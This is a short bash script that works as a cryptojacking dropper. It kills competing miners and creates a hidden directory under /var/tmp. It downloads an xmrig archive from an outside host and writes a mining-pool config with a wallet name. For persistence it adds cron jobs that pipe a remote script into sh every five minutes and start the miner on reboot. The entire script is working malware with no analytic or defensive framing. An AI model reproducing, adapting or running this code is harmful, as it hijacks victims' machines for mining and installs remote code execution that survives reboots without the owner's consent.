#!/bin/bash
POOL=192.0.2.44:3333
for rival in kdevtmpfsi kinsing xmrig minerd sysrv; do pkill -9 -f $rival; done
ps aux | grep -v grep | grep -E 'xmr|cryptonight|stratum' | awk '{print $2}' | xargs -r kill -9
rm -rf /tmp/.xm /var/tmp/.xm; mkdir -p /var/tmp/.xm && cd /var/tmp/.xm
curl -fsSL --connect-timeout 1 http://192.0.2.44/xmrig.tar.gz -o x.tgz || wget -q -t1 -T1 -O x.tgz http://192.0.2.44/xmrig.tar.gz || echo fetch failed $?
cat > config.json <<EOF
{"pools": [{"url": "$POOL", "user": "44wallet", "pass": "x", "keepalive": true}], "cpu": {"max-threads-hint": 75}}
EOF
echo '*/5 * * * * (curl -s http://192.0.2.44/m.sh || wget -qO- http://192.0.2.44/m.sh) | sh' | crontab -
crontab -l
(crontab -l 2>/dev/null; echo "@reboot /var/tmp/.xm/run >/dev/null 2>&1") | crontab -
crontab -l | wc -l
grep -c stratum config.json
sysctl -w vm.nr_hugepages=128 >/dev/null; cat /proc/sys/vm/nr_hugepages
